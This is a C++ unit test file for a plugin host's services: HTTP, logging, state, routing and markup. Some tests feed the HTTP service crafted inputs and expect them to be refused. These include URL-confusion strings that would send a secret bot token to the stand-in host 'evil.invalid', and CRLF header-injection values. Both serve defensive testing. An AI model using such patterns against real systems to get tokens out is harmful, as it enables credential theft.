// What the host's services let a plugin do, and what they refuse it.
#include <gmock/gmock.h>

#include "core/host/instance_fixture.hpp"
#include "core/host/services/services.hpp"
#include "openclaw/host/http.h"
#include "openclaw/host/inbound.h"
#include "openclaw/host/log.h"
#include "openclaw/host/markup.h"
#include "openclaw/host/route.h"
#include "openclaw/host/state.h"
#include "openclaw/host/status.h"

namespace openclaw::host {

using sdk::str;
using ::testing::HasSubstr;
using ::testing::Not;

namespace {

/// How a request of the plugin's ended.
struct Answer {
  std::promise<void> came;
  oc_status code = OC_OK;
  std::uint32_t flags = 0;
  std::string json, body;
  static void done(oc_inst*, void* user, oc_op, const oc_error* error, oc_str answer,
                   oc_buf body) noexcept {
    auto& self = *static_cast<Answer*>(user);
    self.code = error == nullptr ? OC_OK : error->code;
    self.flags = error == nullptr ? 0 : error->flags;
    self.json = sdk::copy(answer);
    self.body = sdk::take(body);
    self.came.set_value();
  }
  void wait() {
    ASSERT_EQ(came.get_future().wait_for(std::chrono::seconds(20)), std::future_status::ready);
  }
};

const oc_http_callbacks http_callbacks = {sizeof(oc_http_callbacks), 0, nullptr, nullptr,
                                          &Answer::done};

class ServicesTest : public InstanceTest {
 protected:
  static constexpr const char* kSection = R"({"botToken":"canary-secret-1"})";

  oc_status request(const char* url, const char* header_value) {
    Answer answer;
    on_loop([&] {
      const oc_kv header = {str("X-Key"), str(header_value)};
      oc_http_request r{};
      r.size = sizeof r;
      r.method = str("GET");
      r.url = str(url);
      r.headers = &header;
      r.n_headers = 1;
      ASSERT_NE(
          script.service<oc_http>("oc.http/1")->request(script.host, &r, &http_callbacks, &answer),
          0U);
    });
    answer.wait();
    return answer.code;
  }
};

TEST_F(ServicesTest, AServiceOfAnotherKindIsAbsent) {
  make();
  EXPECT_NE(script.service<void>("oc.route/1"), nullptr);
  EXPECT_EQ(script.service<void>("oc.nonsense/1"), nullptr);
}

TEST_F(ServicesTest, HttpSendsSecretsToAllowedHostsOnly) {
  make({}, {}, kSection);
  for (const char* url :
       {"https://evil.invalid/", "https://api.example.org@evil.invalid/",
        "https://api.example.org\\@evil.invalid/", "evil.invalid/?://api.example.org/"}) {
    EXPECT_EQ(request(url, "Bearer ${secret:botToken}"), OC_E_AUTH) << url;
  }
  EXPECT_EQ(request("https://evil.invalid/${secret:botToken}", "x"), OC_E_AUTH);
  EXPECT_EQ(request("https://api.example.org/", "${secret:unset}"), OC_E_AUTH);
}

TEST_F(ServicesTest, HttpRefusesLineBreaksInHeaders) {
  make({}, {}, R"({"botToken":"canary\r\nX-Injected: 1"})");
  EXPECT_EQ(request("http://127.0.0.1:1/", "a\r\nb: c"), OC_E_INVAL);
  EXPECT_EQ(request("https://api.example.org/", "${secret:botToken}"), OC_E_INVAL);
}

TEST_F(ServicesTest, ASecretInTheUrlMayNotMoveItsHost) {
  make({}, {}, R"({"botToken":"evil.invalid/"})");
  EXPECT_EQ(request("https://${secret:botToken}@api.example.org/", "x"), OC_E_INVAL);
}

TEST_F(ServicesTest, ThePluginSeesAPlaceholderAndItsWordsAreRedacted) {
  make({}, {}, kSection);
  EXPECT_THAT(script.config, Not(HasSubstr("canary")));
  ::testing::internal::CaptureStderr();
  on_loop([this] {
    script.service<oc_log>("oc.log/1")
        ->write(script.host, OC_LOG_ERROR, str("e"), str(R"({"what":"it was canary-secret-1"})"));
    script.service<oc_status_service>("oc.status/1")
        ->set(script.host, OC_STATE_FAILED, str("canary-secret-1 was refused"));
  });
  log.flush();
  const std::string written = ::testing::internal::GetCapturedStderr();
  EXPECT_THAT(written, HasSubstr("[botToken]"));
  EXPECT_THAT(written, Not(HasSubstr("canary")));
  EXPECT_EQ(instance->status().reason, "[botToken] was refused");
}

TEST_F(ServicesTest, APluginIsToldWhichLinesAreWritten) {
  make();
  on_loop([this] {
    const auto* lines = script.service<oc_log>("oc.log/1");
    EXPECT_EQ(lines->enabled(script.host, OC_LOG_DEBUG), 1);
    EXPECT_EQ(lines->enabled(script.host, OC_LOG_ERROR), 1);
    EXPECT_EQ(lines, script.service<oc_log>("oc.log/1"));
  });
}

TEST_F(ServicesTest, WhatIsPostedRunsOnceOrIsDroppedOnce) {
  struct Posted {
    std::atomic<int> runs{0}, drops{0};
  } ran, fenced, destroyed;
  const auto post = [this](Posted& posted) {
    EXPECT_EQ(
        script.api->post(
            script.host, [](oc_inst*, void* arg) noexcept { ++static_cast<Posted*>(arg)->runs; },
            [](void* arg) noexcept { ++static_cast<Posted*>(arg)->drops; }, &posted),
        OC_OK);
  };
  make();
  on_loop([&] {
    post(ran);
    EXPECT_EQ(ran.runs, 0) << "never inside";
  });
  EXPECT_EQ(ran.runs, 1);
  EXPECT_EQ(ran.drops, 0);
  on_loop([&] {
    post(fenced);
    instance->fence("it blocked");
  });
  EXPECT_EQ(fenced.runs, 0);
  EXPECT_EQ(fenced.drops, 1);
  on_loop([&] {
    post(destroyed);
    EXPECT_EQ(script.api->post(
                  script.host, [](oc_inst*, void*) noexcept {}, nullptr, nullptr),
              OC_OK);
    instance->destroy();
  });
  EXPECT_EQ(destroyed.runs, 0);
  EXPECT_EQ(destroyed.drops, 1);
}

TEST_F(ServicesTest, WhatIsStillQueuedWhenTheLoopEndsIsDropped) {
  static std::atomic<int> drops{0};
  drops = 0;
  make();
  on_loop([] {});
  {
    runtime::Loop other("never runs");
    Instance unused(Instance::Setup{"unused",
                                    instance->manifest(),
                                    std::make_shared<Library>(Library::linked(scripted)),
                                    "{}",
                                    other,
                                    egress,
                                    environment,
                                    {},
                                    {}});
    host_api().post(
        unused.as_host(), [](oc_inst*, void*) noexcept {}, [](void*) noexcept { ++drops; },
        nullptr);
    EXPECT_EQ(drops, 0);
  }
  EXPECT_EQ(drops, 1);
}

TEST_F(ServicesTest, AStructThatIsShorterThanTheFirstIsRefused) {
  make();
  on_loop([this] {
    const auto* http = script.service<oc_http>("oc.http/1");
    oc_http_request r{};
    r.size = sizeof r - 8;
    EXPECT_EQ(http->request(script.host, &r, &http_callbacks, nullptr), 0U);
    r.size = sizeof r;
    oc_http_callbacks shorter = http_callbacks;
    shorter.size -= 8;
    EXPECT_EQ(http->request(script.host, &r, &shorter, nullptr), 0U);
    EXPECT_EQ(http->request(script.host, &r, nullptr, nullptr), 0U);

    const auto* route = script.service<oc_route>("oc.route/1");
    oc_ws_events events = {sizeof events, 0,
                           [](oc_inst*, void*, oc_op, const oc_route_request*) noexcept {},
                           [](oc_inst*, void*, oc_op, oc_str, std::uint32_t) noexcept {},
                           [](oc_inst*, void*, oc_op, std::uint32_t) noexcept {}};
    const auto add_ws = [&](const oc_ws_events* e) {
      return route->add_ws(script.host, str("/channels/scripted/ws"), nullptr, 0, e, nullptr);
    };
    events.size -= 8;
    EXPECT_EQ(add_ws(&events), OC_E_INVAL);
    EXPECT_EQ(add_ws(nullptr), OC_E_INVAL);
    events.size += 8 + 64;  // a later plugin's
    EXPECT_EQ(add_ws(&events), OC_OK);

    const auto* messages = script.service<oc_inbound>("oc.inbound/1");
    oc_attachment attachment{};
    oc_message m{};
    m.size = sizeof m - 8;
    EXPECT_EQ(messages->submit(script.host, &m, &Answer::done, nullptr), 0U);
    m.size = sizeof m;
    m.attachments = &attachment;
    m.n_attachments = 1;
    m.attachment_stride = sizeof attachment;
    EXPECT_EQ(messages->submit(script.host, &m, &Answer::done, nullptr), 0U) << "without a size";
  });
}

TEST_F(ServicesTest, AFailureWithoutAWholeErrorIsThePlugins) {
  make();
  std::promise<Errc> failed;
  script.start = [this](oc_op op) {
    const oc_error error{8, OC_E_AUTH, 0, 0, {}, {}};
    script.api->complete(script.host, op, &error, {}, {});
  };
  on_loop(
      [&] { instance->start([&](const Result<void>& r) { failed.set_value(r.error().code); }); });
  auto code = failed.get_future();
  EXPECT_EQ(get(code), Errc::plugin);
}

TEST_F(ServicesTest, StateComesBackAndAWrongVersionIsAConflict) {
  make();
  const auto put = [this](std::uint64_t expect) {
    Answer answer;
    on_loop([&] {
      script.service<oc_state>("oc.state/1")
          ->put(script.host, str("k"), str("v"), expect, &Answer::done, &answer);
    });
    answer.wait();
    return std::pair(answer.code, answer.json);
  };
  EXPECT_EQ(put(0), std::pair(oc_status{OC_OK}, std::string(R"({"version":1})")));
  EXPECT_EQ(put(0).first, OC_E_CONFLICT);
  Answer answer;
  on_loop([&] {
    script.service<oc_state>("oc.state/1")->get(script.host, str("k"), &Answer::done, &answer);
  });
  answer.wait();
  EXPECT_EQ(answer.body, "v");
  EXPECT_EQ(answer.json, R"({"version":1})");
  EXPECT_EQ(store.values.count("plugin/scripted|k"), 1U);
}

TEST_F(ServicesTest, OnlyAWriteThatSurelyDidNotHappenIsSaidToHaveHadNoEffect) {
  make();
  const auto put = [this](Errc failure) {
    store.failure = failure;
    Answer answer;
    on_loop([&] {
      script.service<oc_state>("oc.state/1")
          ->put(script.host, str("k"), str("v"), 0, &Answer::done, &answer);
    });
    answer.wait();
    return answer.flags;
  };
  EXPECT_EQ(put(Errc::storage), OC_EF_NOT_DONE | OC_EF_RETRY);
  EXPECT_EQ(put(Errc::unknown), OC_EF_MAYBE_DONE | OC_EF_RETRY);
  EXPECT_EQ(put(Errc::deadline), OC_EF_MAYBE_DONE | OC_EF_RETRY);
  const auto submit = [this](Errc failure) {
    inbound.failure = failure;
    Answer answer;
    on_loop([&] {
      oc_message m{};
      m.size = sizeof m;
      ASSERT_NE(script.service<oc_inbound>("oc.inbound/1")
                    ->submit(script.host, &m, &Answer::done, &answer),
                0U);
    });
    answer.wait();
    return answer.flags;
  };
  EXPECT_EQ(submit(Errc::again), OC_EF_NOT_DONE | OC_EF_RETRY);
  EXPECT_EQ(submit(Errc::unknown), OC_EF_MAYBE_DONE | OC_EF_RETRY);
  EXPECT_EQ(submit(Errc::deadline), OC_EF_MAYBE_DONE | OC_EF_RETRY);
}

TEST_F(ServicesTest, TheLastMessageOfATextHasTheFormThatSendWouldBeGiven) {
  make();
  const auto last = [this](const std::string& markdown) {
    std::pair<std::string, std::string> out{"none", "none"};
    const auto keep = [](void* user, oc_str text, oc_str plain) noexcept {
      *static_cast<decltype(out)*>(user) = {sdk::copy(text), sdk::copy(plain)};
    };
    EXPECT_EQ(script.service<oc_markup>("oc.markup/1")
                  ->last_message(script.host, sdk::str(markdown), keep, &out),
              OC_OK);
    return out;
  };
  using Both = std::pair<std::string, std::string>;
  EXPECT_EQ(last("so **very**"), Both("so <b>very</b>", "so very"));
  EXPECT_EQ(last("plain"), Both("plain", ""));
  EXPECT_EQ(last(" \n"), Both("none", "none"));
  EXPECT_EQ(last("![a cat](https://example.org/cat.png)"),
            Both("a cat (https://example.org/cat.png)", ""));
  EXPECT_EQ(last(std::string(290, 'x') + "\n\n**the end**"), Both("<b>the end</b>", "the end"));
  EXPECT_EQ(script.service<oc_markup>("oc.markup/1")
                ->last_message(script.host, str("x"), nullptr, nullptr),
            OC_E_INVAL);
}

}  // namespace
}  // namespace openclaw::host
